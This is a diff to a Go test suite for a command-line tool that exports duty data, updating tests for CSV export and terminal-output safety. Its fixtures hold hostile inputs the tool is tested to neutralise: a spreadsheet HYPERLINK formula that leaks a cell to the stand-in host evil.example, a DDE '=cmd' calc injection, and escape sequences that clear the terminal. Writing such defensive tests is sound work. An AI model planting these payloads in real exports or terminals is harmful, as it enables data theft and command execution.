@@ -8,11 +8,13 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
 	"syscall"
 	"testing"
 	"unicode/utf8"
 
+	"github.com/charmbracelet/x/ansi"
 	"github.com/dutymap/dutymap/internal/termsafe"
 )
 
@@ -57,14 +59,17 @@ func runPiped(t *testing.T, dir string, args ...string) piped {
 }
 
 // onTerminal runs the binary in dir on a pty and returns every byte it
-// wrote there, with the pty's own "\r\n" for "\n" undone.
+// wrote there, with the pty's own "\r\n" for "\n" undone, and without
+// the question `show --theme auto` asks the terminal before the page (its
+// background colour, OSC 11, then DA1): the program's own query, not text.
 func onTerminal(t *testing.T, dir string, args ...string) (string, int) {
 	t.Helper()
 	s := startCommand(t, 80, 40, func(c *exec.Cmd) { c.Dir = dir; c.Env = append(c.Env, "COLUMNS=80") }, binary, args...)
 	code := s.exit()
 	s.mu.Lock()
 	defer s.mu.Unlock()
-	return strings.ReplaceAll(string(s.raw), "\r\n", "\n"), code
+	raw := strings.ReplaceAll(string(s.raw), "\r\n", "\n")
+	return strings.ReplaceAll(raw, ansi.RequestBackgroundColor+ansi.RequestPrimaryDeviceAttributes, ""), code
 }
 
 func assertText(t *testing.T, what, s string, sgr bool) {
@@ -116,7 +121,7 @@ func TestCaseEntityAmp(t *testing.T) {
 	}
 	r := runPiped(t, dir, ownArgs("export", "--format", "csv")...)
 	rows, err := csv.NewReader(strings.NewReader(r.out)).ReadAll()
-	if err != nil || len(rows) != 2 || rows[1][4] != want {
+	if err != nil || len(rows) != 4 || rows[3][slices.Index(rows[0], "duty_en")] != want {
 		t.Errorf("export: %q (%v)", rows, err)
 	}
 	raw, _ := onTerminal(t, dir, ownArgs("show", "amp/s/1")...)
@@ -160,7 +165,7 @@ func TestCaseBinaryTagC1(t *testing.T) {
 func TestCaseYAMLErrorEcho(t *testing.T) {
 	dir := caseFolder(t, map[string]string{"en/e.md": "---\nid: yt\nname: y\norder: \"\\ec\\e[2J\"\n---\n\n## S {#s}\n- d\n"})
 	r := runPiped(t, dir, "validate", ".")
-	if r.code != 1 || !strings.Contains(r.out, "en/e.md:4: wrong kind of value") {
+	if r.code != 1 || !strings.Contains(r.out, "en/e.md:4: order: ") || !strings.Contains(r.out, "is not a whole number") {
 		t.Errorf("exit %d\n%s", r.code, r.out)
 	}
 	assertText(t, "validate piped", r.out+r.err, false)
@@ -201,7 +206,7 @@ func TestCaseCSVFormula(t *testing.T) {
 		"- =HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")\n- +1+2\n- @SUM(1)\n- -2+3\n"})
 	r := runPiped(t, dir, ownArgs("export", "--format", "csv")...)
 	rows, err := csv.NewReader(strings.NewReader(r.out)).ReadAll()
-	if err != nil || len(rows) != 5 {
+	if err != nil || len(rows) != 7 {
 		t.Fatalf("%v:\n%s", err, r.out)
 	}
 	for _, row := range rows[1:] {
@@ -211,7 +216,8 @@ func TestCaseCSVFormula(t *testing.T) {
 			}
 		}
 	}
-	if rows[1][1] != "'=cmd|'/C calc'!A0" || rows[4][4] != "'-2+3" {
+	name, duty := slices.Index(rows[0], "department_en"), slices.Index(rows[0], "duty_en")
+	if rows[1][name] != "'=cmd|'/C calc'!A0" || rows[6][duty] != "'-2+3" {
 		t.Errorf("cells not neutralised as documented: %q", rows)
 	}
 }
